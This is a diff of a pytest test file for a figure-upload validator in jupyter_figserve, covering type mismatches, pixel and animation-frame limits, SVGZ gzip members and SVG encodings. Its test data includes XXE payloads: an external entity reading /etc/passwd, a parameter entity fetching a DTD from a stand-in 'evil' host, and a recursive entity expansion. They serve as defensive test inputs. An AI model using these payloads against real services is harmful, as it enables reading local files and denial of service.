@@ -12,7 +12,7 @@ from jupyter_figserve.errors import InvalidInput, TooLarge, UnsupportedType
 from jupyter_figserve.server.services.figures import upload
 from jupyter_figserve.server.services.figures.upload import PublishRequest, read_upload
 
-from ...pictures import HTML, PDF, PICTURES, SVG, multipart, png, png_header
+from ...pictures import HTML, PDF, PICTURES, SVG, apng, multipart, png, png_header
 
 PIXELS = 1_000_000
 
@@ -45,6 +45,8 @@ def test_every_format_is_known(type):
         ("image/png", png()[:-1]),
         ("image/png", png() + b"<script>"),
         ("image/jpeg", png()),
+        ("image/apng", png()),
+        ("image/jpeg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\xff\xd9"),
         ("image/webp", b"RIFF\0\0\0\0WAVEfmt "),
         ("image/svg+xml", HTML),
         ("image/svg+xml", b"<html><svg></svg></html>"),
@@ -64,7 +66,7 @@ def test_bytes_that_are_something_else_are_refused(type, data):
     assert caught.value.code == "type_mismatch"
 
 
-@pytest.mark.parametrize("type", ["", "image/gif", "application/octet-stream", "text/plain", "application/json"])
+@pytest.mark.parametrize("type", ["", "image/bmp", "application/octet-stream", "text/plain", "application/json"])
 def test_other_types_are_refused(type):
     """Types outside the format table are refused."""
     with pytest.raises(UnsupportedType):
@@ -95,27 +97,43 @@ def test_too_many_pixels_are_refused_by_the_header():
 @pytest.mark.parametrize(
     "svg",
     [
-        b'<!DOCTYPE svg [<!ENTITY a "b">]><svg>&a;</svg>',
         b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>',
         b'<?xml version="1.0"?><!doctype svg [ <!entity % x SYSTEM "http://evil/x.dtd"> %x; ]><svg/>',
-        b'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "x">]><svg/>',
+        b'<!DOCTYPE svg [<!ENTITY a "&b;"><!ENTITY b "&a;">]><svg>&a;</svg>',
         b'<svg><!-- --><!ENTITY a "b"></svg>',
     ],
 )
-def test_svg_that_declares_anything_is_refused(svg):
-    """An entity bomb and an external entity are refused, compressed or not."""
+def test_svg_that_declares_too_much_is_refused(svg):
+    """External, parameter and endless entities are refused, compressed or not."""
     for type, data in (("image/svg+xml", svg), ("image/svg+xml-compressed", gzip.compress(svg))):
         with pytest.raises(InvalidInput) as caught:
             read(data, type)
         assert caught.value.code == "svg_entities"
 
 
+def test_svg_with_small_entities_is_stored_unchanged():
+    """Illustrator declares its namespaces so; browsers expand them."""
+    doctype = b'<!DOCTYPE svg PUBLIC "x" "y" [<!ENTITY ns "http://www.w3.org/2000/svg">]>'
+    svg = doctype + SVG.replace(b"http://www.w3.org/2000/svg", b"&ns;")
+    assert read(svg, "image/svg+xml").payloads[0].data == svg
+
+
 def test_svg_that_hides_text_is_refused():
-    """Encodings and NUL bytes that would hide a declaration are refused."""
-    for svg in (SVG.replace(b"<path", b"<path>\x00"), b"\xff\xfe" + SVG.decode().encode("utf-16-le")):
+    """NUL bytes, an unknown encoding and bytes of another encoding are refused."""
+    for svg in (
+        SVG.replace(b"<path", b"<path>\x00"),
+        b'<?xml version="1.0" encoding="utf-7"?>' + SVG,
+        SVG.replace(b"<path", b"<path>\xff"),
+    ):
         with pytest.raises(InvalidInput) as caught:
             read(svg, "image/svg+xml")
         assert caught.value.code == "svg_encoding"
+
+
+def test_svg_is_stored_as_utf8():
+    """It is served as UTF-8, whatever its encoding was."""
+    (payload,) = read(SVG.decode().encode("utf-16"), "image/svg+xml").payloads
+    assert payload.data.endswith(SVG)
 
 
 def test_svg_with_a_plain_doctype_is_taken():
@@ -129,6 +147,40 @@ def test_svgz_is_not_expanded_beyond_the_limit(monkeypatch):
     monkeypatch.setattr(upload, "_MAX_UNPACKED_BYTES", 10_000)
     with pytest.raises(TooLarge):
         read(gzip.compress(b"<svg>" + b" " * 10_000_000 + b"</svg>"), "image/svg+xml-compressed")
+
+
+def test_every_gzip_member_of_an_svgz_is_checked():
+    """Browsers join the members, so that a later one can hide entities."""
+    hidden = b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + SVG
+    for data, reason in (
+        (gzip.compress(b"<!-- -->") + gzip.compress(hidden), "Remove the declarations"),
+        (gzip.compress(SVG) + b"trailing", "not gzip"),
+        (gzip.compress(SVG)[:-9], "ends early"),
+        (gzip.compress(b"") * 200, "members"),
+    ):
+        with pytest.raises((InvalidInput, UnsupportedType), match=reason):
+            read(data, "image/svg+xml-compressed")
+    two = gzip.compress(SVG[:30]) + gzip.compress(SVG[30:])
+    assert read(two, "image/svg+xml-compressed").payloads[0].data == two
+
+
+def test_pixels_of_every_raster_format_are_bounded():
+    """By the size in the header, of the largest frame too."""
+    for name in ("jpg", "webp", "avif", "gif", "apng", "tiff", "png"):
+        mimetype, data = PICTURES[name]
+        assert (read(data, mimetype, pixels=12).payloads[0].width, name) == (4, name)
+        with pytest.raises(TooLarge, match="figure_pixels"):
+            read(data, mimetype, pixels=11)
+
+
+def test_frames_of_an_animation_are_told_and_bounded():
+    """An animated PNG is stored as such under either type."""
+    data = apng(frames=3)
+    for type in ("image/png", "image/apng"):
+        (payload,) = read(data, type).payloads
+        assert (payload.mimetype, payload.frames, payload.duration) == ("image/apng", 3, 0.3)
+    with pytest.raises(TooLarge, match=r"3 frames.*animation_frames"):
+        read_upload(data, HTTPHeaders({"Content-Type": "image/apng"}), {"name": "a"}, PIXELS, 2)
 
 
 def test_form_is_read():
